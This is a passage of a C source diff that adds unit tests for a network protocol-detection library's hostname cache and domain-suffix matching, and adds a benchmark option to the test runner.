+  assert(hostMatch(ndpi_str, "www.unit-test-host.org", NULL) == 0);
+  assert(hostMatch(ndpi_str, "www.unit-test-host.org", NULL) == 0);
+
+  /* Loading categories drops the cached "no match" */
+  assert(ndpi_load_hostname_category(ndpi_str, "unit-test-host.org", NDPI_PROTOCOL_CATEGORY_CUSTOM_1) == 0);
+  ndpi_enable_loaded_categories(ndpi_str);
+  assert(hostMatch(ndpi_str, "www.unit-test-host.org", NULL) == 1);
+
+  /* So does an explicit invalidation */
+  ndpi_host_match_cache_invalidate(ndpi_str);
+  assert(hostMatch(ndpi_str, "www.facebook.com", &app_proto) == 1 && app_proto == NDPI_PROTOCOL_FACEBOOK);
+  assert(ndpi_get_host_match_cache_stats(ndpi_str, &stats) == 0);
+  assert(stats.hits == 2 && stats.misses == 4);
+
+  ndpi_exit_detection_module(ndpi_str);
+
+  printf("%s                  OK\n", __FUNCTION__);
+  return(0);
+}
+
+/* *********************************************** */
+
+static u_int16_t hostProto(struct ndpi_detection_module_struct *ndpi_str, const char *name) {
+  ndpi_protocol_match_result ret_match;
+
+  return(ndpi_match_string_subprotocol(ndpi_str, (char*)name, strlen(name), &ret_match, 1));
+}
+
+int domainSuffixUnitTest() {
+  struct ndpi_detection_module_struct *ndpi_str = ndpi_init_detection_module(ndpi_no_prefs);
+  ndpi_protocol_category_t category;
+  void *automa;
+
+  assert(ndpi_str != NULL);
+  assert(ndpi_load_hostname_category(ndpi_str, "unit-test-domain.org", NDPI_PROTOCOL_CATEGORY_CUSTOM_1) == 0);
+  assert(ndpi_load_hostname_category(ndpi_str, ".unit-test-dot.net", NDPI_PROTOCOL_CATEGORY_CUSTOM_2) == 0);
+  ndpi_enable_loaded_categories(ndpi_str);
+  ndpi_finalize_initialization(ndpi_str);
+
+  /* Label boundaries */
+  assert(hostProto(ndpi_str, "netflix.com") == NDPI_PROTOCOL_NETFLIX);
+  assert(hostProto(ndpi_str, "www.NetFlix.COM") == NDPI_PROTOCOL_NETFLIX);
+  assert(hostProto(ndpi_str, "mynetflix.com") != NDPI_PROTOCOL_NETFLIX);
+  assert(hostProto(ndpi_str, "netflix.com.evil.org") != NDPI_PROTOCOL_NETFLIX);
+
+  /* As with the automa, the longest suffix decides, even when it is not on a label boundary */
+  assert(hostProto(ndpi_str, "buy.itunes.apple.com") == NDPI_PROTOCOL_APPLESTORE);
+  assert(hostProto(ndpi_str, "a.buy.itunes.apple.com") == NDPI_PROTOCOL_APPLESTORE);
+  assert(hostProto(ndpi_str, "p53-buy.itunes.apple.com") != NDPI_PROTOCOL_APPLE_ITUNES);
+
+  /* Substring patterns ("amazon.") are still found by the automa */
+  assert(hostProto(ndpi_str, "www.amazon.de") == NDPI_PROTOCOL_AMAZON);
+
+  assert(ndpi_match_custom_category(ndpi_str, "a.unit-test-domain.org", 22, &category) == 0
+	 && category == NDPI_PROTOCOL_CATEGORY_CUSTOM_1);
+  assert(ndpi_match_custom_category(ndpi_str, "aunit-test-domain.org", 21, &category) != 0);
+  assert(ndpi_match_custom_category(ndpi_str, "x.unit-test-dot.net", 19, &category) == 0
+	 && category == NDPI_PROTOCOL_CATEGORY_CUSTOM_2);
+  assert(ndpi_match_custom_category(ndpi_str, "unit-test-dot.net", 17, &category) != 0);
+
+  /* A replaced host automa takes the domain suffixes with it */
+  automa = ndpi_init_automa();
+  assert(automa != NULL);
+  ndpi_finalize_automa(automa);
+  automa = ndpi_automa_host_replace(ndpi_str, automa);
+  assert(automa != NULL);
+  ndpi_free_automa(automa);
+  assert(hostProto(ndpi_str, "netflix.com") == NDPI_PROTOCOL_UNKNOWN);
+
+  ndpi_exit_detection_module(ndpi_str);
+
+  printf("%s                    OK\n", __FUNCTION__);
+  return(0);
+}
+
+/* *********************************************** */
+
 int main(int argc, char **argv) {
   int c;
   
@@ -241,20 +1807,50 @@ int main(int argc, char **argv) {
   if (ndpi_info_mod == NULL)
     return -1;
 
-  while((c = getopt(argc, argv, "vh")) != -1) {
+  while((c = getopt(argc, argv, "bvh")) != -1) {
     switch(c) {
+    case 'b':
+      benchmark = 1;
+      break;
+
     case 'v':
       verbose = 1;
       break;
       
     default:
-      printf("Usage: unit [-v] [-h]\n");
+      printf("Usage: unit [-b] [-v] [-h]\n");
       return(0);
     }
   }
     
   /* Tests */
   if (serializerUnitTest() != 0) return -1;
+  if (serializerFormatUnitTest() != 0) return -1;
+  if (flowExporterUnitTest() != 0) return -1;
+  if (byteDistUnitTest() != 0) return -1;
+  if (urlValidationUnitTest() != 0) return -1;
+  if (hllUnitTest() != 0) return -1;
+  if (hostAnalyticsUnitTest() != 0) return -1;
+  if (binClusteringUnitTest() != 0) return -1;
+  if (fingerprintUnitTest() != 0) return -1;
+  if (memoryBudgetUnitTest() != 0) return -1;
+  if (detectionStatsUnitTest() != 0) return -1;
+  if (detectionBudgetUnitTest() != 0) return -1;
+  if (tcpReassemblyUnitTest() != 0) return -1;
+  if (sharedTablesUnitTest() != 0) return -1;
+  if (dgaUnitTest() != 0) return -1;
+  if (hostMatchCacheUnitTest() != 0) return -1;
+  if (domainSuffixUnitTest() != 0) return -1;
+
+  /* -b: throughput only, the benchmarks never fail on timings */
+  if (benchmark) {
+    serializerBenchmark();
+    byteDistBenchmark();
+    urlValidationBenchmark();
+    hllBenchmark();
+    hostAnalyticsBenchmark();
+    binClusteringBenchmark();
+  }
 
   return 0;
 }